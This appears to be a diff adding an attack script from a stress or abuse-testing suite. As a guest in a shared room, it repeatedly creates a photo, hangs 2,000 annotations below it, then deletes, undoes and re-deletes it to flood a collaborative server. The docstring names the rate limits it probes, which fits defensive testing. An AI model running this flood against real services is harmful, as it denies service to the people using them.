@@ -1,0 +1,45 @@
+"""Annotations below one parent, deleted together.
+
+Does: a guest hangs groups of 400 annotations below one photo in the victim's room, deletes the photo, undoes that and
+    starts again.
+Breaks: one small message makes the committer delete, log and broadcast thousands of elements.
+Limit: `commits-per-second`; elements of one deletion with its annotations; `undo-entry-bytes`.
+"""
+
+import os
+
+from lines import event, guest
+
+ANNOTATIONS = 400
+GROUPS = 5
+
+
+async def attack(target):
+    await target.crowd(2, cascade)
+
+
+async def cascade(target):
+    async with await guest(target, target.room) as line:
+        while target.is_on():
+            parent = f"parent-{os.urandom(6).hex()}"
+            await call(target, line, "element:create", {"element": {"type": "photo", "id": parent, "width": 200, "height": 100}})
+            for _ in range(GROUPS):
+                await call(target, line, "elements:create", {"elements": annotations(parent)})
+                target.tally("annotations", ANNOTATIONS)
+            for name, payload in (
+                ("element:delete", {"elementId": parent}), ("history:undo", {}), ("element:delete", {"elementId": parent}),
+            ):
+                await call(target, line, name, payload)
+                target.tally("cascades")
+
+
+async def call(target, line, name, payload):
+    await line.send(event(name, {"roomId": target.room, **payload}, 9))
+    await line.until(rb"439\[", within=20)
+
+
+def annotations(parent):
+    return [
+        {"type": "text", "id": os.urandom(6).hex(), "parentId": parent, "space": "normalized", "positionX": 0.5, "positionY": 0.5}
+        for _ in range(ANNOTATIONS)
+    ]
